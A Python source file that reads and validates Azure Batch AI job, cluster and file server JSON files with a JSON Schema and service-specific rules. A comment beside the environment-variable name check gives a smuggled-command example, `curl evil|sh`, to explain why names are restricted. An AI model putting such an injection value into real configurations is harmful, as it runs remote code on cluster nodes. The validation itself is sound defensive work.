"""Reading and validating Batch AI files: JSON Schema first (from `trainstack.batchai.models`,
checked with `jsonschema`), then the rules the service enforced that a schema cannot say
(exactly one toolkit, CNTK's language, one kind of scale settings).

Every problem names the file, the JSON path of the field and the fix; an unknown key gets a
"did you mean". `load(path)` raises `ConfigError` holding all of them.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Mapping, Sequence
from functools import cache
from pathlib import Path
from typing import Any, Literal

import jsonschema
from pydantic import BaseModel

from jobrunner.errors import ConfigError, Problem, did_you_mean, field_path
from jobrunner.files import MAX_DEPTH, check_depth, read_text, validate_model
from trainstack.batchai.models import ClusterFile, FileServerFile, JobFile
from trainstack.batchai.older_api import upgrade
from trainstack.batchai.timespan import parse_duration_seconds

Kind = Literal["job", "cluster", "fileserver"]
MODELS: dict[Kind, type[BaseModel]] = {"job": JobFile, "cluster": ClusterFile, "fileserver": FileServerFile}
BatchAiFile = JobFile | ClusterFile | FileServerFile

# `$schema` file names in Azure/BatchAI's `schemas/<version>/` folder, by kind.
_SCHEMA_NAMES: dict[str, Kind] = {
    "job.json": "job",
    "cntk.json": "job",
    "pytorch.json": "job",
    "tensorflow.json": "job",
    "caffe.json": "job",
    "caffe2.json": "job",
    "chainer.json": "job",
    "custom.json": "job",
    "mpi.json": "job",
    "horovod.json": "job",
    "cluster.json": "cluster",
    "nfs.json": "fileserver",
}
_SCHEMA_VERSION = re.compile(r"/schemas/(?P<version>[^/]+)/(?P<name>[^/]+)$")
SUPPORTED_VERSION = "2018-05-01"


@cache
def json_schema(kind: Kind) -> dict[str, Any]:
    """The JSON Schema (draft 2020-12) a Batch AI file of `kind` must satisfy.

    Generated from the pydantic models with optional fields as plain optional properties
    (no `null`), as in Batch AI's schema, where `"nodeCount": null` is an error.
    """
    schema: dict[str, Any] = _strip_nulls(MODELS[kind].model_json_schema(by_alias=True))
    return schema


def _strip_nulls(node: Any) -> Any:
    if isinstance(node, dict):
        alts = node.get("anyOf")
        if isinstance(alts, list) and {"type": "null"} in alts:
            rest = [a for a in alts if a != {"type": "null"}]
            merged = {k: v for k, v in node.items() if k not in ("anyOf", "default")}
            merged.update(rest[0] if len(rest) == 1 else {"anyOf": rest})
            return _strip_nulls(merged)
        return {k: _strip_nulls(v) for k, v in node.items() if not (k == "default" and v in (None, []))}
    if isinstance(node, list):
        return [_strip_nulls(v) for v in node]
    return node


def detect_kind(data: Mapping[str, Any]) -> Kind | None:
    """Job, cluster or file server, from `$schema` or else from the fields it holds."""
    declared = data.get("$schema")
    if isinstance(declared, str):
        m = _SCHEMA_VERSION.search(declared)
        if m and m["name"] in _SCHEMA_NAMES:
            return _SCHEMA_NAMES[m["name"]]
    props = data.get("properties")
    if not isinstance(props, Mapping):
        return None
    keys = set(props)
    if keys & {"dataDisks", "sshConfiguration"}:
        return "fileserver"
    if keys & {
        "nodeCount",
        "stdOutErrPathPrefix",
        "jobPreparation",
        "inputDirectories",
        "outputDirectories",
    } or any(k.endswith("Settings") and k not in ("scaleSettings", "userAccountSettings") for k in keys):
        return "job"
    if keys & {"vmSize", "scaleSettings", "userAccountSettings", "nodeSetup", "vmPriority"}:
        return "cluster"
    return None


def declared_version(data: Mapping[str, Any]) -> str | None:
    """The schema version in the file's `$schema` URL (`2018-05-01`), if it names one."""
    declared = data.get("$schema")
    m = _SCHEMA_VERSION.search(declared) if isinstance(declared, str) else None
    return m["version"] if m else None


def read_json(path: Path) -> dict[str, Any]:
    """The file's JSON object. Raises ConfigError (file, line, column) when it is not one."""
    text = read_text(path, encoding="utf-8-sig")  # Batch AI's samples may start with a BOM
    try:
        data = json.loads(text)
    except json.JSONDecodeError as exc:
        where = f"line {exc.lineno}, column {exc.colno}"
        raise ConfigError([Problem(str(path), where, f"not valid JSON: {exc.msg}")]) from None
    except RecursionError:  # deeper than the decoder goes, far past the bound below
        raise ConfigError(
            [Problem(str(path), "", f"Batch AI file nests deeper than {MAX_DEPTH} levels")]
        ) from None
    check_depth(data, source=str(path), what="Batch AI file")
    if not isinstance(data, dict):
        raise ConfigError([Problem(str(path), "", "a Batch AI file is a JSON object with `properties`")])
    return data


def load(path: str | Path, kind: Kind | None = None) -> tuple[Kind, BatchAiFile]:
    """Read, validate and parse a Batch AI file; `kind` None means: detect it.

    Keys of the APIs before 2018-05-01 are mapped first (`trainstack.batchai.older_api`).
    Raises ConfigError with every problem found (file, JSON path, fix) when the file cannot
    be read, is not JSON, is of an unknown kind, breaks the schema, or breaks a rule of the
    service (no toolkit, two toolkits, both manual and auto scale, ...).
    """
    p = Path(path)
    data = read_json(p)
    detected = detect_kind(data)
    kind = kind or detected
    if kind is not None:
        data = upgrade(data, kind).data  # older-API keys mapped; each is recorded by the converter
    if kind is None:
        raise ConfigError(
            [
                Problem(
                    str(p),
                    "",
                    "cannot tell whether this is a job, cluster or file server file",
                    "give it with --job, --cluster or --fileserver",
                )
            ]
        )
    problems = list(schema_problems(data, kind, file=str(p))) or list(rule_problems(data, kind, file=str(p)))
    if problems:
        raise ConfigError(problems)
    # what the schema lets through and the model still refuses (a whole number too large
    # for an integer field, written as 9.2e18) is a problem of the file, not a crash
    return kind, validate_model(MODELS[kind], data, file=str(p))  # type: ignore[return-value]


def schema_problems(data: Any, kind: Kind, *, file: str | None) -> Iterator[Problem]:
    """One Problem per schema violation, deepest first within each field, sorted by path."""
    validator = jsonschema.Draft202012Validator(json_schema(kind))
    errors = sorted(validator.iter_errors(data), key=lambda e: [str(s) for s in e.absolute_path])
    for err in errors:
        yield _problem(err, file)


def _problem(err: jsonschema.ValidationError, file: str | None) -> Problem:
    loc: list[str | int] = list(err.absolute_path)
    schema = err.schema if isinstance(err.schema, Mapping) else {}
    if err.validator == "additionalProperties" and isinstance(err.instance, Mapping):
        known = list(schema.get("properties", {}))
        extra = [k for k in err.instance if k not in known]
        unknown = extra[0] if extra else "?"
        guess = did_you_mean(unknown, known)
        fix = (
            f"did you mean `{guess}`?" if guess else "known keys here: " + ", ".join(f"`{k}`" for k in known)
        )
        return Problem(file, field_path([*loc, unknown]), f"unknown key `{unknown}`", fix)
    if err.validator == "required":
        missing = re.search(r"'([^']+)' is a required property", err.message)
        name = missing.group(1) if missing else "?"
        return Problem(file, field_path([*loc, name]), "required field is missing", f"add `{name}`")
    if err.validator in ("enum", "const"):
        allowed = [str(v) for v in schema.get("enum", [schema.get("const")])]
        guess = did_you_mean(str(err.instance), allowed)
        fix = f"did you mean `{guess}`?" if guess else "use one of " + ", ".join(f"`{a}`" for a in allowed)
        return Problem(file, field_path(loc), f"{err.instance!r} is not allowed here", fix)
    if err.validator == "type":
        expected = schema.get("type")
        return Problem(
            file,
            field_path(loc),
            f"expected {_article(expected)}, got {_describe(err.instance)}",
            _type_fix(err.instance, expected),
        )
    return Problem(file, field_path(loc), err.message)


def _article(json_type: Any) -> str:
    names = {"object": "an object", "array": "a list", "integer": "an integer", "string": "a string"}
    return names.get(str(json_type), str(json_type))


def _describe(value: Any) -> str:
    if isinstance(value, str) and value.startswith("[") and value.endswith("]"):
        return f"the ARM template expression {value!r}"
    return (
        f"{type(value).__name__.replace('dict', 'object').replace('list', 'list')} {json.dumps(value)[:60]}"
    )


def _type_fix(value: Any, expected: Any) -> str | None:
    if isinstance(value, str) and value.startswith("[") and value.endswith("]"):
        return "ARM expressions are evaluated by template deployments, not by `az batchai`: write the value"
    if expected == "integer" and isinstance(value, str) and value.strip().isdigit():
        return f"write the number without quotes: {value.strip()}"
    if expected == "array":
        return "write a JSON list: [ ... ]"
    return None


def rule_problems(data: Mapping[str, Any], kind: Kind, *, file: str | None) -> Iterator[Problem]:
    """What Batch AI refused beyond its schema. Only called on schema-valid data."""
    props: Mapping[str, Any] = data.get("properties", {})
    yield from _variable_name_rules(props, file)
    if kind == "job":
        yield from _job_rules(props, file)
    elif kind == "cluster":
        scale = props.get("scaleSettings")
        if isinstance(scale, Mapping) and ("manual" in scale) == ("autoScale" in scale):
            yield Problem(file, "properties.scaleSettings", "give exactly one of `manual` and `autoScale`")


_VARIABLE_NAME = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*$")
# Where Batch AI files hold environment variables (the cluster's go into the pool's nodeSetup
# as `export NAME=...` lines: a name like `X;curl evil|sh;Y` would be a command).
_VARIABLE_LISTS = (
    ("environmentVariables",),
    ("secrets",),
    ("nodeSetup", "setupTask", "environmentVariables"),
    ("nodeSetup", "setupTask", "secrets"),
)


def _variable_name_rules(props: Mapping[str, Any], file: str | None) -> Iterator[Problem]:
    for steps in _VARIABLE_LISTS:
        entries = _get(props, list(steps))
        for i, entry in enumerate(entries if isinstance(entries, list) else []):
            name = entry.get("name") if isinstance(entry, Mapping) else None
            if isinstance(name, str) and not _VARIABLE_NAME.match(name):
                yield Problem(
                    file,
                    f"properties.{'.'.join(steps)}[{i}].name",
                    f"{name!r} is not an environment variable name",
                    "use letters, digits and `_`, not starting with a digit",
                )


def _job_rules(props: Mapping[str, Any], file: str | None) -> Iterator[Problem]:
    toolkits = [k for k in props if k.endswith("Settings") and k != "containerSettings"]
    if not toolkits:
        yield Problem(
            file,
            "properties",
            "the job names no toolkit",
            "add one of `tensorFlowSettings`, `pyTorchSettings`, `horovodSettings`, `customMpiSettings`, "
            "`cntkSettings`, `chainerSettings`, `caffeSettings`, `caffe2Settings`, `customToolkitSettings`",
        )
    elif len(toolkits) > 1:
        yield Problem(
            file, "properties", "the job names more than one toolkit: " + ", ".join(toolkits), "keep one"
        )
    for field in ("nodeCount", *(f"{t}.processCount" for t in toolkits), "tensorFlowSettings.workerCount"):
        value = _get(props, field.split("."))
        if isinstance(value, int) and value < 1:
            yield Problem(file, f"properties.{field}", f"must be at least 1, got {value}")
    ps = _get(props, ["tensorFlowSettings", "parameterServerCount"])
    if isinstance(ps, int) and ps < 0:
        yield Problem(
            file, "properties.tensorFlowSettings.parameterServerCount", f"must be 0 or more, got {ps}"
        )
    cntk = props.get("cntkSettings")
    if isinstance(cntk, Mapping):
        language = str(
            cntk.get("languageType") or ("Python" if "pythonScriptFilePath" in cntk else "BrainScript")
        )
        if language.lower() not in ("brainscript", "python"):
            yield Problem(
                file,
                "properties.cntkSettings.languageType",
                f"{language!r} is not a CNTK language",
                "use `BrainScript` or `Python`",
            )
        elif ("configFilePath" in cntk) == ("pythonScriptFilePath" in cntk):
            yield Problem(
                file,
                "properties.cntkSettings",
                "give exactly one of `configFilePath` (BrainScript) and `pythonScriptFilePath` (Python)",
            )
    caffe = props.get("caffeSettings")
    if isinstance(caffe, Mapping) and ("configFilePath" in caffe) == ("pythonScriptFilePath" in caffe):
        yield Problem(
            file,
            "properties.caffeSettings",
            "give exactly one of `configFilePath` and `pythonScriptFilePath`",
        )
    wall = _get(props, ["constraints", "maxWallClockTime"])
    if isinstance(wall, str):
        try:
            parse_duration_seconds(wall)
        except ValueError as exc:
            yield Problem(file, "properties.constraints.maxWallClockTime", str(exc))
    ids = [d.get("id") for key in ("inputDirectories", "outputDirectories") for d in props.get(key, [])]
    for dup in sorted({i for i in ids if isinstance(i, str) and ids.count(i) > 1}):
        yield Problem(
            file, "properties", f"directory id `{dup}` is used twice", "give each directory its own id"
        )


def _get(data: Mapping[str, Any], path: Sequence[str]) -> Any:
    node: Any = data
    for step in path:
        if not isinstance(node, Mapping):
            return None
        node = node.get(step)
    return node
